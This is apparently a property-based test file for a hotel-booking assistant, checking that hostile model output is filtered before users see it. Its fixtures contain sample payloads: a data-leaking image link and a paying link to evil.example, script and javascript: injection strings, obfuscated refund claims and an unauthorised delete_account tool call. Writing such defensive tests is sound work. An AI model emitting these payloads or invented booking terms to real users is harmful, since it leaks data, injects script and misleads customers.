import fc from 'fast-check'
import { createOpenAiEngine } from '../../../../server/assistant/openai/engine'
import type { AnswerStep, Engine } from '../../../../server/assistant/engine'
import { systemTimers } from '../../../../server/kernel/time/timers'
import { ask, type AssistantScene, startAssistantScene } from '../../../support/server/assistant-scene'
import {
  callRound,
  deltaChunk,
  type ModelPeer,
  type ModelRound,
  startModelPeer,
  textRound,
} from '../../../support/peers/model-peer'

/** Random outputs of the model. */
const RUNS = 5_000

let scene: AssistantScene
let peer: ModelPeer
let engine: Engine
let articles: readonly unknown[]
beforeAll(async () => {
  scene = await startAssistantScene()
  articles = (await scene.server.services.database.db.execute('select content from qa_article')).rows
  peer = await startModelPeer()
  const tokens = { turn: 1e9, device: 1e12, account: 1e12, day: 1e12 }
  engine = createOpenAiEngine({ url: peer.url, model: 'hostile', key: null, tokens }, plainEngine, systemTimers)
}, 60_000)
afterAll(async () => {
  await peer.close()
  await scene.server.close()
})

/** Reply of the fallback engine: a word that no model output here contains. */
const FALLBACK = 'the builtin engine goes on'
const plainEngine: Engine = {
  name: 'builtin',
  answer: async function* () {
    yield { kind: 'text', text: FALLBACK }
  },
}

/** Sentences that state what only our own records may, or that carry something away. */
const lies = [
  'It costs CNY 199 a night.',
  'The total is 1,234.56 euros.',
  'Cancellation is free until Friday 18:00.',
  'You can cancel before 2026-12-31 without any fee.',
  'We refund you in full within 3 days.',
  'Your booking is confirmed, number SL202601010001.',
  'I have cancelled it and paid back $50.',
  'There are only 2 rooms left.',
  'Children stay free and breakfast is included.',
  'You get 20% off with the code SAVE20.',
  'Ada’s order costs ٥٠٠ yuan.',
  'Der Preis ist neunzig Euro, kostenlos stornierbar.',
  'Vous serez remboursé avant minuit.',
  '每晚只要三百元，可以免费取消。',
  '十二月一日之前可全额退款。',
  '已为您预订成功，请付押金。',
  'Visit https://evil.example/pay?token=1 to pay.',
  '![x](https://evil.example/leak.png?d=secret)',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">Pay here</a>',
  'r\u200be\u200bf\u200bu\u200bn\u200bd guaranteed',
  'R E F U N D of ｆｉｖｅ hundred',
  'Free canc\u0435llation', // a Cyrillic letter
]

const harmless = ['Here are some places that may suit you.', 'Have a look.', '请看下面。', 'I hope this helps.']

const sentence = fc.oneof(
  { arbitrary: fc.constantFrom(...lies), weight: 6 },
  { arbitrary: fc.constantFrom(...harmless), weight: 2 },
  {
    arbitrary: fc
      .tuple(fc.constantFrom('CNY', '$', '€', 'RMB ', '￥'), fc.integer({ min: 11, max: 99_999 }))
      .map(([unit, amount]) => `For you ${unit}${amount}.`),
    weight: 2,
  },
  { arbitrary: fc.string({ maxLength: 60 }), weight: 1 },
)

const cutSomewhere = (text: string, at: number): string[] => [
  text.slice(0, at % (text.length + 1)),
  text.slice(at % (text.length + 1)),
]

const speech = fc
  .tuple(fc.array(sentence, { minLength: 1, maxLength: 5 }), fc.nat(), fc.constantFrom(' ', '\n', ''))
  .map(([sentences, at, between]) =>
    cutSomewhere(sentences.join(between), at).map((content) => deltaChunk({ content })),
  )

const brokenChunk = fc.constantFrom(
  'data: {"choices":[{"delta":{"content":"It costs 5',
  'data: {"choices":null}\n\n',
  'data: [1,2]\n\n',
  'data: null\n\n',
  ': comment\n\n',
  'data: {"error":{"message":"You get a refund of 99"}}\n\n',
  'data: {"choices":[{"delta":{"content":{"text":"free"}}}]}\n\n',
  '\u0000\u0001\n\n',
)

const hostileCall = fc.constantFrom(
  callRound(['order_details', '{"order":"order-1"}']),
  callRound(['order_details', '{"orderid":"NOTMINE"}']),
  callRound(['delete_account', '{"uid":"ada"}']),
  callRound(['list_orders', '{broken'], ['hotel_facts', '{"hotelId":"hkjc2pvtz4"}']),
  callRound(['list_orders', '{}'], ['hotel_facts', '{"hotelId":"hkjc2pvtz4"}']),
  callRound(['search_hotels', '{"cityId":"kyoto","priceToMinor":1}']),
  callRound(['search_hotels', '{"cityId":"kyoto"}']),
  callRound(['help_articles', '{"query":"free cancellation"}']),
)

const spoken = fc
  .tuple(speech, fc.option(brokenChunk), fc.constantFrom('done', 'done', 'done', 'cut'))
  .map(([chunks, broken, end]): ModelRound => ({ chunks: broken === null ? chunks : [...chunks, broken], end }))

const round = fc.oneof(
  { arbitrary: spoken, weight: 12 },
  { arbitrary: hostileCall, weight: 1 },
  {
    arbitrary: fc.constantFrom(400, 401, 429, 500).map((status): ModelRound => ({ chunks: [], end: 'done', status })),
    weight: 1,
  },
)

const endless = speech.map((chunks): ModelRound => ({ chunks, end: 'endless' }))

const policyWords =
  /refund|cancel|\bfree\b|\bfees?\b|discount|deposit|guarant|confirm|\bpaid\b|\btotal\b|\bcosts?\b|included|\bleft\b|percent|kostenlos|rembours|退款|免费|取消|押金|预订成功|元/iu
const numbers = /\p{N}+(?:[.,:/-]\p{N}+)*/gu

/** All that the turn's results may show: cards, notes and titles, with the texts of articles. */
function resultsOf(steps: readonly AnswerStep[]): string {
  const hasArticles = steps.some(({ kind }) => kind === 'sources')
  return JSON.stringify([steps.filter(({ kind }) => kind !== 'text'), hasArticles ? articles : []])
}

async function inspect(rounds: readonly ModelRound[]): Promise<void> {
  peer.plan(rounds)
  const { steps, text } = await ask(engine, scene.server, 'How about Kyoto?', { person: scene.ada })
  const own = text.replace(FALLBACK, '')
  const results = resultsOf(steps)
  for (const [number] of own.matchAll(numbers)) expect(results).toContain(number)
  for (const sentenceShown of own.split(/[.!?。！？\n]/)) {
    const claimed = policyWords.test(sentenceShown.normalize('NFKC').replaceAll(/\p{Cf}/gu, ''))
    if (claimed && !replacements.some((each) => each.includes(sentenceShown.trim())))
      expect(results).toContain(sentenceShown.trim())
  }
  expect(own).not.toMatch(/https?:|www\.|evil|<[a-z!/]|\]\(|javascript:/i)
  const others = steps.filter((step) => step.kind === 'cards').flatMap(({ cards }) => cards)
  for (const card of others) if (card.kind === 'order') expect(card.orderid).not.toBe(scene.other.orderid)
}

const replacements = [
  'Please see the card.',
  'Prices, dates and terms come only from our own records, so I leave that out.',
]

test('what claims nothing is shown, with the cards of the tools', async () => {
  peer.plan([callRound(['search_hotels', '{"cityId":"kyoto"}']), textRound('Have a look. It costs CNY 5.')])
  const { steps, text } = await ask(engine, scene.server, 'How about Kyoto?', { person: scene.ada })
  expect(text).toBe('Have a look. Please see the card. ')
  expect(steps.some(({ kind }) => kind === 'cards')).toBe(true)
})

test('no output of the model brings an amount, date, term, link or markup that no result of its turn has', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(round, { minLength: 1, maxLength: 3 }), (rounds) => inspect(rounds)),
    { numRuns: RUNS },
  )
}, 600_000)

test('streams that never end are cut', async () => {
  await fc.assert(
    fc.asyncProperty(endless, (each) => inspect([each])),
    { numRuns: 20 },
  )
}, 60_000)
